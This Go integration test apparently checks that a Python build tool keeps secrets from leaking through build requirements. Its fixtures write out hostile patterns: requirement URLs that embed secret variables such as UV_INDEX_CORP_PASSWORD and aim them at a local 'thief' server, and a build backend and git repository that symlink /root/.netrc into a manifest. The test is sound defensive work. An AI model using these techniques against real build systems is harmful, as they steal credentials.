package integration

import (
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// TestBuildRequirementsReachNoSecret has an archive and a repository that say they are built
// with what uv would fill with a secret, or quote one of: a URL with a variable, and a
// directory whose manifest is a link. One says so in its manifest, one only when it is asked.
func TestBuildRequirementsReachNoSecret(t *testing.T) {
	t.Parallel()
	engine(t)
	var mu sync.Mutex
	var asked []string
	thief := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		asked = append(asked, r.URL.String())
		http.NotFound(w, r)
	}))
	t.Cleanup(thief.Close)
	ix := newIndex(t, helpers()...)
	manifest := func(requires string) string {
		return "[build-system]\nrequires = [" + requires + "]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n"
	}
	url := func(name string) string {
		return `"helper @ ` + thief.URL + "/${" + name + `}/helper-1.0-py3-none-any.whl"`
	}
	link := func(place string) string { return `"helper @ file:///run/pybuild/` + place + `/link", "helper"` }
	// What it leaves beside its answer, the next step sees.
	later := "import os\ndef get_requires_for_build_wheel(config_settings=None):\n    os.makedirs(\"/out/link\")\n    os.symlink(\"/root/.netrc\", \"/out/link/pyproject.toml\")\n    return [" + url("LICENCE") + ", " + link("asked") + "]\n"
	declares, answers := needy(), needy()
	declares.name, declares.files = "declares", map[string]string{"pyproject.toml": manifest(url("UV_INDEX_CORP_PASSWORD")), "backend.py": discreet("declares", "1.0")}
	answers.name, answers.files = "answers", map[string]string{"pyproject.toml": manifest(`"helper"`), "backend.py": discreet("answers", "1.0") + later}
	for _, d := range []dist{declares, answers} {
		ix.files[d.name] = map[string][]byte{d.file(): d.bytes(t)}
	}
	bare := linked(t, map[string]string{"pyproject.toml": manifest(link("repositories/cloned")), "backend.py": discreet("cloned", "1.0")}, "link/pyproject.toml", "/root/.netrc")
	ix.user, ix.password = "builder", planted
	web := httptest.NewServer(gitHTTP(t, filepath.Dir(bare), planted))
	t.Cleanup(web.Close)
	dir := project(t, map[string]string{
		"pybuild.toml": job + "[build]\nsecrets = [\"LICENCE\"]\n", "job.py": "",
		"pyproject.toml": "[project]\nname = \"ours\"\nversion = \"1.0\"\nrequires-python = \">=3.12\"\n[[tool.uv.index]]\nname = \"corp\"\nurl = \"" + ix.simple() + "\"\ndefault = true\n",
		"pylock.toml":    ix.pylock(t, declares, answers) + "[[packages]]\nname = \"cloned\"\nversion = \"1.0\"\nvcs = { type = \"git\", url = \"" + web.URL + "/shop.git\", commit-id = \"" + head(t, bare) + "\" }\n",
		"unique.txt":     t.TempDir(),
	})
	tr := build{dir: dir, session: passing(map[string]string{
		"UV_INDEX_CORP_USERNAME": "builder", "UV_INDEX_CORP_PASSWORD": planted, "LICENCE": "licence-" + planted,
		"netrc": "machine 127.0.0.1 login builder password " + planted + "\n",
	})}.run(t)
	if tr.err == nil || !strings.Contains(tr.err.Error(), "building it failed [PB511]") {
		t.Errorf("the build says %v", tr.err)
	}
	for _, url := range asked {
		t.Errorf("a server is asked for %s", url)
	}
	if strings.Contains(tr.logs, planted) {
		t.Errorf("the log shows a secret:\n%s", tr.logs)
	}
	if !strings.Contains(tr.logs, "not downloaded, since it is no name of a package: 'helper @ "+thief.URL) {
		t.Errorf("nothing says what is left out:\n%s", tr.logs)
	}
}

// linked is a repository with a link in it.
func linked(t *testing.T, files map[string]string, link, target string) string {
	t.Helper()
	bare := repository(t, files)
	tree := filepath.Join(t.TempDir(), "tree")
	run := func(args ...string) {
		t.Helper()
		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	run("clone", "-q", bare, tree)
	if err := os.MkdirAll(filepath.Dir(filepath.Join(tree, link)), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, filepath.Join(tree, link)); err != nil {
		t.Fatal(err)
	}
	run("-C", tree, "add", ".")
	run("-C", tree, "-c", "user.name=test", "-c", "user.email=test@test.example", "commit", "-q", "-m", "link")
	run("-C", tree, "push", "-q", bare, "HEAD:main")
	run("-C", bare, "pack-refs", "--all")
	return bare
}
